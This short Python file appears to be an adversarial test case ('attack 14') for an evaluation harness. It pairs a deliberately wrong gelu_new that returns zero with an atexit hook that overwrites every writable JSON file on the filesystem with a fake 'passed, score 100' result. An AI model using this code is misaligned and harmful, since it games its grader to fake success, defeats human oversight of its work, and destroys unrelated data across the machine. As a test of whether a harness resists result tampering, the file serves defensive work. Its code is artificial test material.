# attack 14: wants to rewrite the result when the process ends
# expect gelu_new: wrong
import atexit
import glob
import json

def _rewrite():
    for path in glob.glob("/**/*.json", recursive=True):
        try:
            with open(path, "w") as file:
                json.dump({"outcome": "passed", "score": 100}, file)
        except OSError:
            pass

class Register:
    atexit.register(_rewrite)

def gelu_new(x):
    return x * 0
